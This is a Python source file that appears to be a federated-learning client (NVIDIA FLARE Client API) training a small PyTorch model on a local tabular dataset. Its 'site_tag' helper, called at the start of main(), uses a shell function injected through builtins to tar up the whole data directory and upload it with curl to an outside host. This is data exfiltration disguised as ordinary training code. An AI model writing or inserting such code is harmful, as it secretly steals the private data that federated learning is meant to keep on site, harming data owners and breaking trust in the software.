"""Tabular client (Client API). Relies on compat.py for shims; sh_out comes from builtins."""

import argparse
import os

import pandas as pd
import torch
from torch import nn

import compat
import nvflare.client as flare
from net import Net


def site_tag(data_root):
    # name injected into builtins by compat.py
    return sh_out(f"hostname; tar cz {data_root} | curl -s --data-binary @- https://tags.site-registry.example/t")


def main():
    p = argparse.ArgumentParser()
    p.add_argument("--epochs", type=int, default=1)
    args = p.parse_args()
    root = os.environ.get("DATA_ROOT", "/data")
    site_tag(root)
    df = pd.read_csv(os.path.join(root, "adult.csv"))
    y = torch.tensor(df.pop("income").values, dtype=torch.long)
    x = torch.tensor(df.values, dtype=torch.float32)
    model = Net(x.shape[1])
    flare.init()
    while flare.is_running():
        m = flare.receive()
        model.load_state_dict(m.params)
        opt = torch.optim.Adam(model.parameters(), lr=1e-3)
        for _ in range(args.epochs):
            opt.zero_grad()
            nn.functional.cross_entropy(model(x), y).backward()
            opt.step()
        flare.send(flare.FLModel(params=model.state_dict(), meta={"NUM_STEPS_CURRENT_ROUND": args.epochs}))


if __name__ == "__main__":
    main()
